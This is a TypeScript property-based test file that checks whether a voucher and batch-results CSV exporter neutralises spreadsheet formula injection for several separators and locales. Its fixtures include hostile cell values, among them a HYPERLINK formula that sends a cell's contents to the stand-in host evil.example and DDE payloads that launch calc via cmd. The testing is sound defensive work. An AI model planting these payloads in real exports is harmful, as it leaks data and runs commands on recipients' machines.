import { buffer } from "node:stream/consumers";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { writeResults } from "../../../api/batches/csv/write-results.js";
import type { BatchResult } from "../../../api/batches/to-result.js";
import { writeVoucherCsv } from "../../../api/reports/write-voucher-csv.js";
import { csvText, readCsvText } from "../../../shared/domain/reports/csv-cell.js";
import { csvLocales } from "../../../shared/domain/reports/csv-locale.js";
import type { ListedVoucher } from "../../../shared/domain/reports/voucher-cells.js";
import { anyColumns, anyHostileText, anyPayload } from "../../support/samples/listed-vouchers.js";
import { propertyRuns } from "../../support/samples/property-runs.js";

/** Texts made of each other: what one reader sees as one cell is several to another. */
const anyText = fc.oneof(
  anyHostileText,
  fc
    .array(fc.oneof(anyHostileText, fc.constantFrom(",", ";", "\t", "|", '"', "\n", " ", "=", "@SUM(1)", "-2+3")), {
      maxLength: 6,
    })
    .map((parts) => parts.join("")),
  fc.constantFrom(
    'Juan;=HYPERLINK("http://evil.example/?"&A2;"ver");Perez',
    "c;@SUM(1+1)*cmd|'/c calc'!A0;d",
    "a, =cmd|'/c calc'!A1",
    "1,-2+cmd",
  ),
);

async function vouchersCsv(vouchers: unknown[], locale: "es-AR" | undefined): Promise<string> {
  const style = csvLocales.get(locale);
  if (!style) throw new Error(`no locale ${locale}`);
  async function* chunks() {
    yield vouchers as ListedVoucher[];
  }
  return (await buffer(writeVoucherCsv(chunks(), style))).toString();
}

/** The cells as a tolerant reader has them, and as one has them who only cuts at separators, line breaks and quotation marks. */
function cellsOf(csv: string, delimiter: string): string[] {
  const text = csv.replace(/^\uFEFF/, "");
  const cut = text.split(/[\r\n]+/).flatMap((line) => line.split(delimiter));
  return [...readTolerantly(text, delimiter), ...cut.map((cell) => cell.replace(/^[" \u00A0]+/, ""))];
}

/** A quotation that is still open at the end ends there. */
function readTolerantly(text: string, delimiter: string): string[] {
  const read = (csv: string): string[][] =>
    parse(csv, {
      delimiter,
      record_delimiter: ["\r\n", "\n", "\r"],
      relax_quotes: true,
      relax_column_count: true,
      skip_empty_lines: true,
    });
  try {
    return read(text).flat();
  } catch {
    return read(`${text}"`).flat();
  }
}

/** Amounts stay numbers; and a formula of ours gives a text of digits. */
const harmless = /^(?:[+-]?\d[\d.,]*|="*[\d.,:/ eE+-]*"*)$/;

const formulasIn = (csv: string): string[] =>
  [",", ";", "\t"]
    .flatMap((delimiter) => cellsOf(csv, delimiter))
    .filter((cell) => /^[=+\-@＝＋－＠]/.test(cell.trimStart()) && !harmless.test(cell));

describe("no cell of a CSV file is a formula, whichever separator its reader splits at", () => {
  test.each([undefined, "es-AR"] as const)(
    "vouchers.csv, locale %s",
    async (locale) => {
      const anyVoucher = fc.tuple(anyColumns, anyPayload, anyText, anyText).map(([columns, payload, one, other]) => ({
        id: 1,
        ...columns,
        ...payload,
        legend: one,
        comments: other,
        externalReference: `${other}${one}`,
        customer: { name: one, address: other },
      }));
      await fc.assert(
        fc.asyncProperty(fc.array(anyVoucher, { minLength: 1, maxLength: 3 }), async (vouchers) => {
          expect(formulasIn(await vouchersCsv(vouchers, locale))).toEqual([]);
        }),
        propertyRuns(1000),
      );
    },
    300_000,
  );

  test("results.csv of a batch, its keys included", () => {
    fc.assert(
      fc.property(anyText, fc.stringMatching(/^[\w-]{1,12}$/), (error, idempotency) => {
        const result: BatchResult = {
          index: 0,
          idempotency,
          state: "failed",
          id: null,
          voucherNumber: null,
          cae: null,
          totalAmount: "-12.50",
          code: "TAXAUTH_ERROR",
          error,
        } as BatchResult;
        const csv = writeResults([result]);
        expect(formulasIn(csv)).toEqual([]);
        expect(csv).toContain(",-12.50,");
      }),
      propertyRuns(1000),
    );
  });

  test("who takes the apostrophes away has what was written", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(readCsvText(csvText(text))).toBe(text);
      }),
      propertyRuns(3000),
    );
  });
});
